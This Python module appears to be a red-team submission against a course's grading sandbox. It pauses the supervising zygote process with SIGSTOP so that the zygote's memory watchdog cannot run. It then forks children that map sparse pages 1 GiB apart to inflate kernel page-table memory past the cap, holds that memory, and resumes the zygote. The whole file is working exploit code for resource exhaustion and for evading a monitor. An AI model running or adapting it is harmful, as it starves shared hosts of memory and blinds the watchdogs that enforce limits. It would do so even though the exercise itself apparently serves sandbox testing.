import ctypes
import os
import signal
import struct
import time

GIB = 1 << 30
CAP = GIB  # four times what the zygote's watch allows (256 MiB): here it stops
CHILDREN = 3  # each holds up to 512 MiB (vm.max_map_count pages, 8 KiB of tables each)
PAGE = 4096
SPACING = GIB  # a page every 1 GiB: each costs a page-table page and a page-middle-directory page
SECONDS = 5.0  # the red team's grader gives one test's calls 10 s
HOLD_S = 1.0  # held this long after the last child is done: 20 looks of a watch that ran (every 50 ms)
MAP_PRIVATE, MAP_ANONYMOUS, MAP_NORESERVE = 0x02, 0x20, 0x4000
GROUP_PREFIX = "cs336-worker-"  # the memory group the grader makes for a worker, where it can
_outcome = []  # (held bytes, what happened), once per process: every later call answers the same

_libc = ctypes.CDLL(None, use_errno=True)
_libc.mmap.restype = ctypes.c_void_p
_libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
_libc.munmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t]
_FAILED = ctypes.c_void_p(-1).value


def _state(pid):
    """The state letter of process `pid` from /proc/PID/stat (readable whatever its dumpable flag); '?' else."""
    try:
        with open(f"/proc/{pid}/stat") as handle:
            return handle.read().rsplit(")", 1)[1].split()[0]
    except (OSError, IndexError):
        return "?"


def _vmpte_kib():
    with open("/proc/self/status") as handle:
        for line in handle:
            if line.startswith("VmPTE:"):
                return int(line.split()[1])
    return 0


def _scatter(deadline):
    """One read-only page of 4 KiB every SPACING bytes (by address hints), each read (the shared zero page: no
    memory), until the kernel's limit on mappings or the deadline; pages mapped."""
    pages, start = 0, 1 << 40
    while time.monotonic() < deadline:
        want = start + pages * SPACING
        got = _libc.mmap(want, PAGE, 1, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1, 0)
        if got in (None, _FAILED):
            break
        if got != want:
            _libc.munmap(got, PAGE)
            break
        ctypes.c_char.from_address(got).value
        pages += 1
    return pages


def _child(writer, deadline):
    """In a forked child: scatter, say how many bytes of page tables it holds, then sleep until killed."""
    try:
        before = _vmpte_kib()
        _scatter(deadline)
        held = (_vmpte_kib() - before) * 1024
    except BaseException:  # noqa: BLE001 - the parent must hear from every child
        held = 0
    os.write(writer, struct.pack("<Q", held))
    while True:
        time.sleep(60)


def grow_while_stopped(zygote):
    """Stop the zygote (SIGSTOP to the parent: the filter allows kill of a pid, and the zygote is in this
    process's own Landlock domain), grow the page tables in children while its watch cannot look, hold them
    HOLD_S, end the children, then let the zygote go on (SIGCONT). (bytes held while stopped, what happened)."""
    start = time.monotonic()
    deadline = start + SECONDS
    try:
        os.kill(zygote, signal.SIGSTOP)
    except OSError as error:
        return 0, f"SIGSTOP to the zygote (pid {zygote}): {error.strerror}"
    children, held = [], 0
    reader, writer = os.pipe()
    try:
        time.sleep(0.05)
        state = _state(zygote)
        if state not in ("T", "t"):
            return 0, f"the zygote (pid {zygote}) did not stop: its state is {state!r}"
        for _ in range(CHILDREN):
            if held >= CAP or time.monotonic() > deadline:
                break
            pid = os.fork()
            if pid == 0:
                os.close(reader)
                try:
                    _child(writer, deadline)
                finally:
                    os._exit(0)
            children.append(pid)
            got = os.read(reader, 8)
            if len(got) < 8:
                break
            held += struct.unpack("<Q", got)[0]
        time.sleep(HOLD_S)
        alive = sum(1 for pid in children if os.waitpid(pid, os.WNOHANG) == (0, 0))
        happened = (f"{len(children)} children ({alive} alive after {HOLD_S:g} s more) while the zygote (pid {zygote}) "
                    f"was in state {_state(zygote)!r}, {time.monotonic() - start:.1f} s")
        if alive < len(children):
            held = 0
    finally:
        for pid in children:
            try:
                os.kill(pid, signal.SIGKILL)
                os.waitpid(pid, 0)
            except OSError:
                pass
        os.kill(zygote, signal.SIGCONT)
        os.close(reader)
        os.close(writer)
    return held, happened


def memory_group():
    """The memory cgroup the grader made for this worker, where /proc/self/cgroup names one (None else)."""
    try:
        with open("/proc/self/cgroup") as handle:
            for line in handle:
                _, controllers, path = line.rstrip("\n").split(":", 2)
                if (controllers == "" or "memory" in controllers.split(",")) and GROUP_PREFIX in path:
                    return path
    except (OSError, ValueError):
        return None
    return None


def attack(args):
    """Once per process, grow the page tables with the zygote stopped. If they reached the cap and lived on,
    answer honestly (full marks on Problem 1 is the attack getting through), else fail saying what stopped
    them."""
    if not _outcome:
        _outcome.append(grow_while_stopped(os.getppid()))
    held, happened = _outcome[0]
    group = memory_group()
    if group is not None:
        raise MemoryError(f"held {held / GIB:.2f} GiB of page tables ({happened}), but the kernel charges them to the "
                          f"worker's memory group {group}, which bounds them whether the zygote watches or not")
    if held < CAP:
        raise MemoryError(f"held only {held / GIB:.2f} GiB of page tables while the zygote was stopped ({happened})")
    if len(_outcome) == 1:
        _outcome.append("said")
        print(f"held {held / GIB:.2f} GiB of page tables while the zygote was stopped ({happened})", flush=True)
    return None  # the function's own body runs on
